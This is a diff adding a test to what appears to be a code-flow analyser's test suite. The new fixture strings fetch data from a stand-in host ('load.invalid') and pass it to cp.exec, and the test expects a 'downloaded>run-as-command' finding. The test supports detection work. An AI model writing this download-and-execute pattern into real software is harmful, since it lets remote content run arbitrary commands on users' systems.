@@ -38,6 +38,19 @@ describe('members', () => {
     assert.deepEqual(pick('console.log(f(words[i], 42));'), []);
   });
 
+  it('may be none of the functions of a table, where the word is somebody else’s', () => {
+    const table = `const known = { help: () => 'words', version: () => '1' };`;
+    for (const run of [
+      `(word) => { if (known[word]) return known[word](); cp.exec(word); }`,
+      `(word) => (known[word] ?? (() => cp.exec(word)))()`,
+    ])
+      assert.deepEqual(
+        flowsOf(`${table} https.get('https://load.invalid/', (answer) => answer.on('data', ${run}));`),
+        ['downloaded>run-as-command'],
+        run,
+      );
+  });
+
   it('of an object that stands before another one are what it says', () => {
     const run = (get: string) =>
       behavioursOf(
